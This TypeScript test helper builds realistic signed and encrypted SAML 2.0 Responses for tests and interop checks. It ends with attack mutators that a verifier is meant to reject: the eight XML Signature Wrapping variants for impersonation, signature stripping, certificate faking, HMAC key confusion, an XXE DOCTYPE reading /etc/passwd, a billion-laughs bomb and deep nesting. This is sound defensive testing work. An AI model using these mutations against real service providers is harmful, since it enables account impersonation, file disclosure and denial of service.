/**
 * SAML 2.0 Responses built the way real IdPs build them, for tests, interop checks and
 * benchmarks: an Assertion (optionally signed, optionally encrypted for the SP) inside a Response
 * (optionally signed), signed with xml-crypto (RSA-SHA256, SHA-256 digests, exclusive c14n,
 * enveloped-signature transform, the Signature placed right after the Issuer as the schema wants)
 * and encrypted with xml-encryption (AES-256-GCM + RSA-OAEP by default).
 *
 * Every field is an option, so a test can make a legitimate IdP say something odd (and sign it);
 * the helpers at the end mutate the XML afterwards for the attacks a signature should catch (XML
 * signature wrapping, DOCTYPE, nesting). Test material only: never use it to issue real assertions.
 */
import { randomBytes, X509Certificate } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { encrypt as xmlEncrypt, type EncryptionAlgorithm, type KeyEncryptionAlgorithm } from 'xml-encryption';

export const SAML_NS = {
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
  xenc: 'http://www.w3.org/2001/04/xmlenc#',
  xs: 'http://www.w3.org/2001/XMLSchema',
  xsi: 'http://www.w3.org/2001/XMLSchema-instance',
} as const;

export const SAML_STATUS = {
  success: 'urn:oasis:names:tc:SAML:2.0:status:Success',
  requester: 'urn:oasis:names:tc:SAML:2.0:status:Requester',
  responder: 'urn:oasis:names:tc:SAML:2.0:status:Responder',
  authnFailed: 'urn:oasis:names:tc:SAML:2.0:status:AuthnFailed',
  noPassive: 'urn:oasis:names:tc:SAML:2.0:status:NoPassive',
} as const;

export const SUBJECT_CONFIRMATION = {
  bearer: 'urn:oasis:names:tc:SAML:2.0:cm:bearer',
  holderOfKey: 'urn:oasis:names:tc:SAML:2.0:cm:holder-of-key',
  senderVouches: 'urn:oasis:names:tc:SAML:2.0:cm:sender-vouches',
} as const;

export const NAMEID_FORMAT = {
  email: 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress',
  unspecified: 'urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified',
  persistent: 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent',
  transient: 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient',
} as const;

export const AUTHN_CONTEXT = {
  passwordProtectedTransport: 'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport',
  password: 'urn:oasis:names:tc:SAML:2.0:ac:classes:Password',
  x509: 'urn:oasis:names:tc:SAML:2.0:ac:classes:X509',
  mfa: 'https://refeds.org/profile/mfa',
} as const;

export const SIGNATURE_ALGORITHMS = {
  'rsa-sha1': 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
  'rsa-sha256': 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  'rsa-sha512': 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512',
  'hmac-sha1': 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
} as const;
export type SignatureAlgorithmName = keyof typeof SIGNATURE_ALGORITHMS;

export const DIGEST_ALGORITHMS = {
  sha1: 'http://www.w3.org/2000/09/xmldsig#sha1',
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
  sha512: 'http://www.w3.org/2001/04/xmlenc#sha512',
} as const;
export type DigestAlgorithmName = keyof typeof DIGEST_ALGORITHMS;

export const DATA_ENCRYPTION_ALGORITHMS = {
  'aes128-gcm': 'http://www.w3.org/2009/xmlenc11#aes128-gcm',
  'aes256-gcm': 'http://www.w3.org/2009/xmlenc11#aes256-gcm',
  'aes128-cbc': 'http://www.w3.org/2001/04/xmlenc#aes128-cbc',
  'aes256-cbc': 'http://www.w3.org/2001/04/xmlenc#aes256-cbc',
} as const satisfies Record<string, EncryptionAlgorithm>;
export type DataEncryptionAlgorithmName = keyof typeof DATA_ENCRYPTION_ALGORITHMS;

export const KEY_TRANSPORT_ALGORITHMS = {
  'rsa-oaep-mgf1p': 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p',
  'rsa-1_5': 'http://www.w3.org/2001/04/xmlenc#rsa-1_5',
} as const satisfies Record<string, KeyEncryptionAlgorithm>;
export type KeyTransportAlgorithmName = keyof typeof KEY_TRANSPORT_ALGORITHMS;

const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

// ---------------------------------------------------------------------------------------------
// Keys

/** A PEM private key and its PEM certificate. */
export interface PemKeyPair {
  privateKeyPem: string;
  certificatePem: string;
}

/** The test key pairs in libs/testing/fixtures/keys (see its README). */
export type FixtureKeyName = 'idp-a' | 'idp-b' | 'idp-expired' | 'attacker' | 'sp-signing' | 'sp-encryption';

/** The directory holding the fixture key pairs (`<name>.key.pem`, `<name>.cert.pem`). */
export const fixtureKeysDirectory = new URL('../fixtures/keys/', import.meta.url);

const fixtureCache = new Map<FixtureKeyName, PemKeyPair>();

/** A fixture key pair, read once. */
export function fixtureKeyPair(name: FixtureKeyName): PemKeyPair {
  let pair = fixtureCache.get(name);
  if (!pair) {
    pair = {
      privateKeyPem: readFileSync(new URL(`${name}.key.pem`, fixtureKeysDirectory), 'utf8'),
      certificatePem: readFileSync(new URL(`${name}.cert.pem`, fixtureKeysDirectory), 'utf8'),
    };
    fixtureCache.set(name, pair);
  }
  return pair;
}

/** The base64 DER body of a PEM certificate (what X509Certificate elements carry). */
export function certificateBody(certificatePem: string): string {
  return new X509Certificate(certificatePem).raw.toString('base64');
}

// ---------------------------------------------------------------------------------------------
// Options

/**
 * A point in time: a number is seconds relative to the builder's `now` (negative: in the
 * past); a Date or an ISO string is taken as is; null leaves the attribute out.
 */
export type SamlTime = number | Date | string | null;

export interface SamlTimes {
  /** Response and Assertion IssueInstant (default: now). */
  issueInstant?: SamlTime;
  /** The Response's IssueInstant when it differs from the Assertion's (default: issueInstant). */
  responseIssueInstant?: SamlTime;
  /** AuthnStatement AuthnInstant (default: issueInstant). */
  authnInstant?: SamlTime;
  /** Conditions NotBefore (default: now). */
  notBefore?: SamlTime;
  /** Conditions NotOnOrAfter (default: now + 300 s). */
  notOnOrAfter?: SamlTime;
  /** SubjectConfirmationData NotBefore (default: absent, as the Web SSO profile wants for bearer). */
  subjectNotBefore?: SamlTime;
  /** SubjectConfirmationData NotOnOrAfter (default: now + 300 s). */
  subjectNotOnOrAfter?: SamlTime;
  /** AuthnStatement SessionNotOnOrAfter (default: absent). */
  sessionNotOnOrAfter?: SamlTime;
}

export interface SamlSigningOptions {
  /** The key that signs; its certificate goes into KeyInfo unless `keyInfo` says otherwise. */
  key: PemKeyPair;
  /**
   * KeyInfo: true (default) carries `key`'s certificate, false leaves KeyInfo out, a PEM string
   * carries that certificate instead (certificate faking: a trusted certificate, another key).
   */
  keyInfo?: boolean | string;
  /** Default rsa-sha256. A URI is used verbatim. */
  signatureAlgorithm?: SignatureAlgorithmName | (string & {});
  /** Default sha256. A URI is used verbatim. */
  digestAlgorithm?: DigestAlgorithmName | (string & {});
  /** The shared secret of an HMAC signature; default the signing certificate's PEM (key confusion). */
  hmacKey?: string;
}

export interface SamlEncryptionOptions {
  /** The SP's encryption certificate (PEM): the assertion key is encrypted for its public key. */
  certificatePem: string;
  /** Default aes256-gcm. */
  dataAlgorithm?: DataEncryptionAlgorithmName;
  /** Default rsa-oaep-mgf1p. */
  keyTransport?: KeyTransportAlgorithmName;
}

export type SignTarget = 'response' | 'assertion' | 'both' | 'none';

export interface SamlAttributeValues {
  [name: string]: string | readonly string[];
}

export interface SamlAssertionOptions {
  /** The IdP's entity ID: the Assertion Issuer (and the Response Issuer unless overridden). */
  issuer: string;
  /** The Assertion Issuer when it differs from `issuer`; null leaves it out. */
  assertionIssuer?: string | null;
  /** The SP's ACS URL: Recipient and Destination unless overridden. */
  acsUrl: string;
  /** SubjectConfirmationData Recipient (default acsUrl); null leaves it out. */
  recipient?: string | null;
  /**
   * Audience(s) of one AudienceRestriction; null leaves AudienceRestriction out. For several
   * restrictions (which are ANDed) use `audienceRestrictions`.
   */
  audience: string | readonly string[] | null;
  /** Several AudienceRestriction elements, each with its audiences; overrides `audience`. */
  audienceRestrictions?: readonly (readonly string[])[];
  /** The AuthnRequest ID answered: Response InResponseTo and SubjectConfirmationData InResponseTo. null: unsolicited. */
  inResponseTo?: string | null;
  /** SubjectConfirmationData InResponseTo when it differs (default inResponseTo); null leaves it out. */
  subjectInResponseTo?: string | null;
  /** NameID value (escaped); null leaves NameID out. */
  nameId: string | null;
  /** Default emailAddress. */
  nameIdFormat?: string;
  /** SubjectConfirmation Method (default bearer); null leaves SubjectConfirmation out. */
  subjectConfirmationMethod?: string | null;
  /** AttributeStatement content; empty or absent: no AttributeStatement. */
  attributes?: SamlAttributeValues;
  /** Default PasswordProtectedTransport; null leaves AuthnStatement out. */
  authnContextClassRef?: string | null;
  /** The clock the relative times count from, epoch ms or Date (default: Date.now()). */
  now?: number | Date;
  times?: SamlTimes;
  /** Default a random `_` + 40 hex digits. */
  assertionId?: string;
  /** AuthnStatement SessionIndex (default a random one). */
  sessionIndex?: string;
  /** Leave out the Conditions element altogether. */
  omitConditions?: boolean;
  /**
   * A last word on the unsigned assertion XML, before it is signed: for IdP quirks (or an IdP
   * that signs whatever it is told) that the options do not cover.
   */
  transformAssertion?: (xml: string) => string;
}

export interface SamlResponseOptions extends SamlAssertionOptions {
  /** The Response Issuer when it differs from `issuer`; null leaves it out. */
  responseIssuer?: string | null;
  /** Response Destination (default acsUrl); null leaves it out. */
  destination?: string | null;
  /** Default a random `_` + 40 hex digits. */
  responseId?: string;
  /** Top-level StatusCode (default Success), an optional second-level one and a StatusMessage. */
  status?: { code?: string; subCode?: string; message?: string };
  /** Leave the assertion out (error responses). */
  omitAssertion?: boolean;
  /** What is signed (default 'both'). */
  sign?: SignTarget;
  /** The IdP's signing key and algorithms; required unless sign is 'none'. */
  signing?: SamlSigningOptions;
  /** The Assertion's signature settings when they differ from `signing`. */
  assertionSigning?: SamlSigningOptions;
  /** Encrypt the (signed) assertion for the SP. */
  encryption?: SamlEncryptionOptions;
  /** Extra elements placed after the assertion (already serialized), for several-assertion cases. */
  extraAssertionsXml?: readonly string[];
  /** A last word on the unsigned Response XML (assertion included), before the Response is signed. */
  transformResponse?: (xml: string) => string;
}

export interface BuiltSamlResponse {
  /** The Response XML, as it goes on the wire (before base64). */
  xml: string;
  /** The SAMLResponse form value. */
  base64: string;
  responseId: string;
  assertionId: string;
  /** The assertion as signed (before any encryption); '' when omitted. */
  assertionXml: string;
}

// ---------------------------------------------------------------------------------------------
// Building

export const newSamlId = (): string => `_${randomBytes(20).toString('hex')}`;

/** XML escaping for text and attribute values. */
export function escapeXml(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');
}

const toMs = (now: number | Date | undefined): number => (now === undefined ? Date.now() : typeof now === 'number' ? now : now.getTime());

function resolveTime(value: SamlTime | undefined, fallback: SamlTime, nowMs: number): string | undefined {
  const chosen = value === undefined ? fallback : value;
  if (chosen === null) return undefined;
  if (typeof chosen === 'number') return new Date(nowMs + chosen * 1000).toISOString();
  if (chosen instanceof Date) return chosen.toISOString();
  return chosen;
}

const attribute = (name: string, value: string | undefined): string => (value === undefined ? '' : ` ${name}="${escapeXml(value)}"`);

/** The unsigned Assertion XML, standalone (it declares the namespaces it uses). */
export function buildAssertionXml(options: SamlAssertionOptions): string {
  const nowMs = toMs(options.now);
  const times = options.times ?? {};
  const issueInstant = resolveTime(times.issueInstant, 0, nowMs);
  const id = options.assertionId ?? newSamlId();
  const issuer = options.assertionIssuer === undefined ? options.issuer : options.assertionIssuer;
  const inResponseTo = options.subjectInResponseTo === undefined ? (options.inResponseTo ?? undefined) : (options.subjectInResponseTo ?? undefined);

  const parts: string[] = [];
  parts.push(`<saml:Assertion xmlns:saml="${SAML_NS.saml}" xmlns:xs="${SAML_NS.xs}" xmlns:xsi="${SAML_NS.xsi}"${attribute('ID', id)} Version="2.0"${attribute('IssueInstant', issueInstant)}>`);
  if (issuer !== null) parts.push(`<saml:Issuer Format="urn:oasis:names:tc:SAML:2.0:nameid-format:entity">${escapeXml(issuer)}</saml:Issuer>`);

  parts.push('<saml:Subject>');
  if (options.nameId !== null) parts.push(`<saml:NameID${attribute('Format', options.nameIdFormat ?? NAMEID_FORMAT.email)}>${escapeXml(options.nameId)}</saml:NameID>`);
  const method = options.subjectConfirmationMethod === undefined ? SUBJECT_CONFIRMATION.bearer : options.subjectConfirmationMethod;
  if (method !== null) {
    const recipient = options.recipient === undefined ? options.acsUrl : (options.recipient ?? undefined);
    parts.push(
      `<saml:SubjectConfirmation${attribute('Method', method)}>`,
      `<saml:SubjectConfirmationData${attribute('NotBefore', resolveTime(times.subjectNotBefore, null, nowMs))}${attribute('NotOnOrAfter', resolveTime(times.subjectNotOnOrAfter, 300, nowMs))}${attribute('Recipient', recipient)}${attribute('InResponseTo', inResponseTo)}/>`,
      '</saml:SubjectConfirmation>',
    );
  }
  parts.push('</saml:Subject>');

  if (!options.omitConditions) {
    parts.push(`<saml:Conditions${attribute('NotBefore', resolveTime(times.notBefore, 0, nowMs))}${attribute('NotOnOrAfter', resolveTime(times.notOnOrAfter, 300, nowMs))}>`);
    const restrictions = options.audienceRestrictions ?? (options.audience === null ? [] : [typeof options.audience === 'string' ? [options.audience] : options.audience]);
    for (const audiences of restrictions) {
      parts.push(`<saml:AudienceRestriction>${audiences.map((a) => `<saml:Audience>${escapeXml(a)}</saml:Audience>`).join('')}</saml:AudienceRestriction>`);
    }
    parts.push('</saml:Conditions>');
  }

  const classRef = options.authnContextClassRef === undefined ? AUTHN_CONTEXT.passwordProtectedTransport : options.authnContextClassRef;
  if (classRef !== null) {
    parts.push(
      `<saml:AuthnStatement${attribute('AuthnInstant', resolveTime(times.authnInstant, times.issueInstant ?? 0, nowMs))}${attribute('SessionIndex', options.sessionIndex ?? newSamlId())}${attribute('SessionNotOnOrAfter', resolveTime(times.sessionNotOnOrAfter, null, nowMs))}>`,
      `<saml:AuthnContext><saml:AuthnContextClassRef>${escapeXml(classRef)}</saml:AuthnContextClassRef></saml:AuthnContext>`,
      '</saml:AuthnStatement>',
    );
  }

  const attributes = Object.entries(options.attributes ?? {});
  if (attributes.length > 0) {
    parts.push('<saml:AttributeStatement>');
    for (const [name, value] of attributes) {
      const values = typeof value === 'string' ? [value] : value;
      parts.push(
        `<saml:Attribute${attribute('Name', name)} NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic">`,
        ...values.map((v) => `<saml:AttributeValue xsi:type="xs:string">${escapeXml(v)}</saml:AttributeValue>`),
        '</saml:Attribute>',
      );
    }
    parts.push('</saml:AttributeStatement>');
  }
  parts.push('</saml:Assertion>');
  const xml = parts.join('');
  return options.transformAssertion ? options.transformAssertion(xml) : xml;
}

/** The unsigned Response XML around already-built assertion content (plain, signed or encrypted). */
export function buildResponseXml(options: SamlResponseOptions, assertionsXml: readonly string[]): { xml: string; responseId: string } {
  const nowMs = toMs(options.now);
  const times = options.times ?? {};
  const responseId = options.responseId ?? newSamlId();
  const issuer = options.responseIssuer === undefined ? options.issuer : options.responseIssuer;
  const destination = options.destination === undefined ? options.acsUrl : (options.destination ?? undefined);
  const issueInstant = resolveTime(times.responseIssueInstant, times.issueInstant ?? 0, nowMs);
  const status = options.status ?? {};
  const code = status.code ?? SAML_STATUS.success;
  const statusCode = status.subCode
    ? `<samlp:StatusCode Value="${escapeXml(code)}"><samlp:StatusCode Value="${escapeXml(status.subCode)}"/></samlp:StatusCode>`
    : `<samlp:StatusCode Value="${escapeXml(code)}"/>`;
  const xml = [
    `<samlp:Response xmlns:samlp="${SAML_NS.samlp}" xmlns:saml="${SAML_NS.saml}"${attribute('ID', responseId)} Version="2.0"${attribute('IssueInstant', issueInstant)}${attribute('Destination', destination)}${attribute('InResponseTo', options.inResponseTo ?? undefined)}>`,
    issuer === null ? '' : `<saml:Issuer Format="urn:oasis:names:tc:SAML:2.0:nameid-format:entity">${escapeXml(issuer)}</saml:Issuer>`,
    `<samlp:Status>${statusCode}${status.message === undefined ? '' : `<samlp:StatusMessage>${escapeXml(status.message)}</samlp:StatusMessage>`}</samlp:Status>`,
    ...assertionsXml,
    '</samlp:Response>',
  ].join('');
  return { xml: options.transformResponse ? options.transformResponse(xml) : xml, responseId };
}

const algorithmUri = <T extends Record<string, string>>(table: T, value: string | undefined, fallback: keyof T): string => {
  if (value === undefined) return table[fallback] ?? '';
  return table[value] ?? value;
};

/**
 * Sign the document element of `xml` (a Response or a standalone Assertion) the way IdPs do:
 * one Reference to its ID, enveloped-signature + exclusive c14n, the Signature right after the
 * element's own Issuer (first child when there is none).
 */
export function signRootElement(xml: string, signing: SamlSigningOptions): string {
  const signatureAlgorithm = algorithmUri(SIGNATURE_ALGORITHMS, signing.signatureAlgorithm, 'rsa-sha256');
  const digestAlgorithm = algorithmUri(DIGEST_ALGORITHMS, signing.digestAlgorithm, 'sha256');
  const keyInfoCertificate = signing.keyInfo === false ? undefined : typeof signing.keyInfo === 'string' ? signing.keyInfo : signing.key.certificatePem;
  const signer = new SignedXml({
    privateKey: signing.key.privateKeyPem,
    signatureAlgorithm,
    canonicalizationAlgorithm: EXC_C14N,
    getKeyInfoContent: (args) => {
      if (keyInfoCertificate === undefined) return null;
      const prefix = args?.prefix ? `${args.prefix}:` : '';
      return `<${prefix}X509Data><${prefix}X509Certificate>${certificateBody(keyInfoCertificate)}</${prefix}X509Certificate></${prefix}X509Data>`;
    },
  });
  if (signatureAlgorithm === SIGNATURE_ALGORITHMS['hmac-sha1']) {
    // xml-crypto keeps HMAC apart from the public-key algorithms (key confusion); an attacker does not.
    signer.enableHMAC();
    signer.privateKey = signing.hmacKey ?? signing.key.certificatePem;
  }
  signer.addReference({ xpath: '/*', transforms: [ENVELOPED, EXC_C14N], digestAlgorithm });
  const hasIssuer = /^<[^>]+>\s*<(?:[A-Za-z0-9_-]+:)?Issuer\b/.test(xml.replace(/^<\?xml[^>]*\?>\s*/, ''));
  signer.computeSignature(xml, {
    prefix: 'ds',
    location: hasIssuer ? { reference: `/*/*[local-name(.)='Issuer' and namespace-uri(.)='${SAML_NS.saml}']`, action: 'after' } : { reference: '/*', action: 'prepend' },
  });
  return signer.getSignedXml();
}

/** Encrypt an assertion for the SP: `<saml:EncryptedAssertion>` holding EncryptedData and EncryptedKey. */
export async function encryptAssertionXml(assertionXml: string, encryption: SamlEncryptionOptions): Promise<string> {
  const publicKey = new X509Certificate(encryption.certificatePem).publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const encryptedData = await new Promise<string>((resolve, reject) => {
    xmlEncrypt(
      assertionXml,
      {
        rsa_pub: publicKey,
        pem: encryption.certificatePem,
        encryptionAlgorithm: DATA_ENCRYPTION_ALGORITHMS[encryption.dataAlgorithm ?? 'aes256-gcm'],
        keyEncryptionAlgorithm: KEY_TRANSPORT_ALGORITHMS[encryption.keyTransport ?? 'rsa-oaep-mgf1p'],
        warnInsecureAlgorithm: false,
      },
      (error: Error | null, result: string) => (error ? reject(error) : resolve(result)),
    );
  });
  return `<saml:EncryptedAssertion xmlns:saml="${SAML_NS.saml}">${encryptedData.trim()}</saml:EncryptedAssertion>`;
}

/** Sign (and encrypt) an assertion as `buildSamlResponse` would, for composing unusual Responses. */
export async function buildSignedAssertionXml(options: SamlResponseOptions): Promise<{ assertionId: string; assertionXml: string; wireXml: string }> {
  const assertionId = options.assertionId ?? newSamlId();
  const sign = options.sign ?? 'both';
  let assertionXml = buildAssertionXml({ ...options, assertionId });
  if (sign === 'assertion' || sign === 'both') {
    const signing = options.assertionSigning ?? options.signing;
    if (!signing) throw new Error('buildSamlResponse: signing options are required to sign the assertion');
    assertionXml = signRootElement(assertionXml, signing);
  }
  const wireXml = options.encryption ? await encryptAssertionXml(assertionXml, options.encryption) : assertionXml;
  return { assertionId, assertionXml, wireXml };
}

/** A complete SAML Response: assertion built, signed, encrypted; Response built and signed, as asked. */
export async function buildSamlResponse(options: SamlResponseOptions): Promise<BuiltSamlResponse> {
  const sign = options.sign ?? 'both';
  const assertion = options.omitAssertion ? { assertionId: '', assertionXml: '', wireXml: '' } : await buildSignedAssertionXml(options);
  const inner = [assertion.wireXml, ...(options.extraAssertionsXml ?? [])].filter((part) => part !== '');
  const built = buildResponseXml(options, inner);
  const { responseId } = built;
  let { xml } = built;
  if (sign === 'response' || sign === 'both') {
    if (!options.signing) throw new Error('buildSamlResponse: signing options are required to sign the response');
    xml = signRootElement(xml, options.signing);
  }
  return { xml, base64: encodeSamlMessage(xml), responseId, assertionId: assertion.assertionId, assertionXml: assertion.assertionXml };
}

// ---------------------------------------------------------------------------------------------
// Bindings

/** base64 of the UTF-8 XML (the HTTP-POST binding's SAMLResponse value). */
export const encodeSamlMessage = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64');
export const decodeSamlMessage = (base64: string): string => Buffer.from(base64, 'base64').toString('utf8');

/** What an HTTP-Redirect binding URL carries: the inflated AuthnRequest and the RelayState. */
export interface RedirectAuthnRequest {
  xml: string;
  id: string;
  issuer?: string | undefined;
  acsUrl?: string | undefined;
  destination?: string | undefined;
  relayState?: string | undefined;
}

/** Read an AuthnRequest sent with the HTTP-Redirect binding (deflate-raw + base64 in `SAMLRequest`). */
export function parseRedirectAuthnRequest(location: string): RedirectAuthnRequest {
  const url = new URL(location);
  const encoded = url.searchParams.get('SAMLRequest');
  if (!encoded) throw new Error(`no SAMLRequest in ${location}`);
  const xml = inflateRawSync(Buffer.from(encoded, 'base64')).toString('utf8');
  const root = parseXmlDocument(xml).documentElement;
  if (!root || root.localName !== 'AuthnRequest' || root.namespaceURI !== SAML_NS.samlp) throw new Error('SAMLRequest is not a samlp:AuthnRequest');
  const id = root.getAttribute('ID');
  if (!id) throw new Error('AuthnRequest without ID');
  const issuer = childElements(root, SAML_NS.saml, 'Issuer')[0]?.textContent?.trim();
  const optional = (name: string) => (root.hasAttribute(name) ? (root.getAttribute(name) ?? undefined) : undefined);
  return { xml, id, issuer, acsUrl: optional('AssertionConsumerServiceURL'), destination: optional('Destination'), relayState: url.searchParams.get('RelayState') ?? undefined };
}

/** The HTTP-Redirect encoding of a SAML message (deflate-raw + base64), for building request URLs. */
export const deflateSamlMessage = (xml: string): string => deflateRawSync(Buffer.from(xml, 'utf8')).toString('base64');

// ---------------------------------------------------------------------------------------------
// Mutations (attacks)

/** Parse XML with xmldom; throws on the first error. */
export function parseXmlDocument(xml: string): Document {
  const errors: string[] = [];
  const doc = new DOMParser({
    errorHandler: (level: string, message: unknown) => {
      if (level !== 'warning') errors.push(String(message));
    },
  }).parseFromString(xml, 'text/xml');
  if (errors.length || !doc.documentElement) throw new Error(errors[0] ?? 'empty document');
  return doc;
}

export const serializeXml = (node: Node): string => new XMLSerializer().serializeToString(node);

/** Parse, let `mutate` change the DOM, serialize. */
export function mutateXml(xml: string, mutate: (doc: Document) => void): string {
  const doc = parseXmlDocument(xml);
  mutate(doc);
  return serializeXml(doc);
}

/** The element children of a node, optionally of one namespace and local name. */
export function childElements(node: Node, ns?: string, localName?: string): Element[] {
  const out: Element[] = [];
  for (let child = node.firstChild; child; child = child.nextSibling) {
    if (child.nodeType !== 1) continue;
    const el = child as Element;
    if ((ns === undefined || el.namespaceURI === ns) && (localName === undefined || el.localName === localName)) out.push(el);
  }
  return out;
}

/** The one child element with this name; throws when there is not exactly one. */
export function onlyChild(node: Node, ns: string, localName: string): Element {
  const found = childElements(node, ns, localName);
  if (found.length !== 1 || !found[0]) throw new Error(`expected one ${localName}, found ${found.length}`);
  return found[0];
}

/** Every descendant element with this namespace and local name, in document order. */
export const descendantElements = (node: Document | Element, ns: string, localName: string): Element[] => Array.from(node.getElementsByTagNameNS(ns, localName));

/** The Response's Assertion (a direct child). */
export const responseAssertion = (doc: Document): Element => onlyChild(doc.documentElement ?? doc, SAML_NS.saml, 'Assertion');

/** An element's own ds:Signature (a direct child), if any. */
export const ownSignature = (el: Element): Element | undefined => childElements(el, SAML_NS.ds, 'Signature')[0];

/** Replace an element's text content. */
export function setText(el: Element, value: string): void {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild((el.ownerDocument ?? el).createTextNode(value));
}

/** Set the NameID of an Assertion element (the usual "become someone else" edit). */
export function setNameId(assertion: Element, value: string): void {
  const subject = onlyChild(assertion, SAML_NS.saml, 'Subject');
  setText(onlyChild(subject, SAML_NS.saml, 'NameID'), value);
}

/** Remove the Signature of the Response, of the Assertion, or every Signature in the document. */
export function removeSignatures(xml: string, which: 'all' | 'response' | 'assertion' = 'all'): string {
  return mutateXml(xml, (doc) => {
    const root = doc.documentElement;
    if (!root) return;
    const targets =
      which === 'all' ? descendantElements(doc, SAML_NS.ds, 'Signature') : [ownSignature(which === 'response' ? root : responseAssertion(doc))].filter((s): s is Element => s !== undefined);
    for (const signature of targets) signature.parentNode?.removeChild(signature);
  });
}

export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/**
 * The eight XML Signature Wrapping variants of Somorovsky et al., "On Breaking SAML: Be Whoever
 * You Want to Be" (USENIX Security 2012), as the SAML Raider tool applies them. `evil` edits the
 * attacker's copy (say, `setNameId(el, 'admin@...')`): the Response for XSW1-2, the Assertion for
 * XSW3-8. The signed original stays somewhere in the document so its digest still holds.
 *   XSW1  evil Response (new ID); the signed original Response (signature-less) inside its Signature
 *   XSW2  evil Response (new ID); the signed original Response inserted before its Signature
 *   XSW3  evil Assertion (new ID, unsigned) inserted before the signed one
 *   XSW4  evil Assertion (new ID, unsigned) with the signed one nested inside it
 *   XSW5  the signed Assertion edited in place (new ID, keeps its Signature); an unsigned copy of
 *         the original appended to the Response (it carries the ID the Signature references)
 *   XSW6  as XSW5, but the copy of the original is placed inside the Signature
 *   XSW7  an Extensions element before the signed Assertion, holding an unsigned evil copy
 *   XSW8  the signed Assertion edited in place (same ID); the original inside a ds:Object of its Signature
 */
export function applyXsw(xml: string, variant: XswVariant, evil: (target: Element) => void): string {
  return mutateXml(xml, (doc) => {
    const root = doc.documentElement;
    if (!root) throw new Error('no document element');
    const dropOwnSignature = (el: Element) => {
      const signature = ownSignature(el);
      if (signature) el.removeChild(signature);
    };
    switch (variant) {
      case 1:
      case 2: {
        const signature = ownSignature(root);
        if (!signature) throw new Error(`XSW${variant} needs a signed Response`);
        const original = root.cloneNode(true) as Element;
        dropOwnSignature(original);
        evil(root);
        if (variant === 1) signature.appendChild(original);
        else root.insertBefore(original, signature);
        root.setAttribute('ID', '_evil_response_id');
        return;
      }
      case 3:
      case 4: {
        const assertion = responseAssertion(doc);
        const copy = assertion.cloneNode(true) as Element;
        dropOwnSignature(copy);
        evil(copy);
        copy.setAttribute('ID', '_evil_assertion_id');
        if (variant === 3) {
          root.insertBefore(copy, assertion);
        } else {
          root.appendChild(copy);
          copy.appendChild(assertion);
        }
        return;
      }
      case 5:
      case 6:
      case 8: {
        const assertion = responseAssertion(doc);
        const signature = ownSignature(assertion);
        if (!signature) throw new Error(`XSW${variant} needs a signed Assertion`);
        const original = assertion.cloneNode(true) as Element;
        dropOwnSignature(original);
        evil(assertion);
        if (variant === 5) {
          root.appendChild(original);
          assertion.setAttribute('ID', '_evil_assertion_id');
        } else if (variant === 6) {
          signature.appendChild(original);
          assertion.setAttribute('ID', '_evil_assertion_id');
        } else {
          const object = doc.createElementNS(SAML_NS.ds, 'ds:Object');
          signature.appendChild(object);
          object.appendChild(original);
        }
        return;
      }
      case 7: {
        const assertion = responseAssertion(doc);
        const extensions = doc.createElementNS(SAML_NS.samlp, 'samlp:Extensions');
        root.insertBefore(extensions, assertion);
        const copy = assertion.cloneNode(true) as Element;
        dropOwnSignature(copy);
        evil(copy);
        extensions.appendChild(copy);
        return;
      }
    }
  });
}

/** Put a DOCTYPE (internal subset and all) in front of the document element. */
export function withDoctype(xml: string, doctype: string): string {
  const start = xml.search(/<(?![?!])/);
  if (start === -1) throw new Error('no element in the XML');
  return `${xml.slice(0, start)}${doctype}${xml.slice(start)}`;
}

/** A DOCTYPE declaring an external entity `&name;` (XXE) that points at `systemId`. */
export const xxeDoctype = (rootName: string, systemId = 'file:///etc/passwd', name = 'xxe'): string => `<!DOCTYPE ${rootName} [<!ENTITY ${name} SYSTEM "${systemId}">]>`;

/** A DOCTYPE for an entity-expansion bomb ("billion laughs"): `&lol<levels>;` expands to 10^levels strings. */
export function billionLaughsDoctype(rootName: string, levels = 9): string {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= levels; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<!DOCTYPE ${rootName} [${entities.join('')}]>`;
}

/**
 * Insert `depth` nested elements as a samlp:Extensions child of the Response (after its Issuer
 * and Signature), by string surgery: no DOM serializer has to survive the depth. With
 * `closed: false` the opening tags are left unclosed (half the bytes; not well-formed).
 */
export function withNestedElements(xml: string, depth: number, options: { closed?: boolean; tag?: string } = {}): string {
  const tag = options.tag ?? 'x';
  const at = xml.indexOf('<samlp:Status');
  if (at === -1) throw new Error('no samlp:Status to insert before');
  const nest = `<samlp:Extensions>${`<${tag}>`.repeat(depth)}${options.closed === false ? '' : `${`</${tag}>`.repeat(depth)}</samlp:Extensions>`}`;
  return `${xml.slice(0, at)}${nest}${xml.slice(at)}`;
}
